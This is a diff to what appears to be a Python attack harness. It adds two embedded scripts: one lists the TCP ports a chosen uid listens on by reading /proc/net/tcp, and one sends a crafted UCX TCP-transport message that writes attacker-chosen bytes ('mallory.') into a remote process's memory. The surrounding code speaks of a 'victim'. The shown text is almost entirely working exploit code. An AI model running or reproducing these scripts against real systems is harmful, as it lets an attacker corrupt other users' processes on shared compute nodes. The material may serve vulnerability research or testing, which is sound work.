@@ -240,6 +240,32 @@ for path in paths:
 print(json.dumps({"tries": tries, "won": won, "segments": segments}))
 """
 
+# Prints the TCP ports on which an account's programs listen on this node. Argument: its uid.
+LISTENERS = r"""
+import sys
+rows = [line.split() for line in open("/proc/net/tcp").read().splitlines()[1:]]
+for row in rows:
+    if row[3] == "0A" and row[7] == sys.argv[1]: print(int(row[1].partition(":")[2], 16))
+"""
+
+# Sends what UCX's TCP transport takes from everybody, the order to write at an address. Arguments: ADDRESS:PORT.
+UCX_PUT = r"""
+import json, socket, struct, sys, time
+sent, refused = [], []
+for place in sys.argv[1:]:
+    host, _, port = place.rpartition(":")
+    try:
+        with socket.create_connection((host, int(port)), 5) as s:
+            s.sendall(struct.pack("<QBIQQI", 0xCAFEBABE12345678, 33, 20, 0x10, 8, 0) + b"mallory.")
+            s.settimeout(5)
+            try:
+                while s.recv(4096): pass
+            except OSError: pass
+            sent.append(place)
+    except OSError as error: refused.append(f"{place} {type(error).__name__}")
+print(json.dumps({"sent": sent, "refused": refused}))
+"""
+
 # Connects to sockets of the victim's, and speaks what they speak. Arguments: paths.
 KNOCK = r"""
 import json, socket, sys
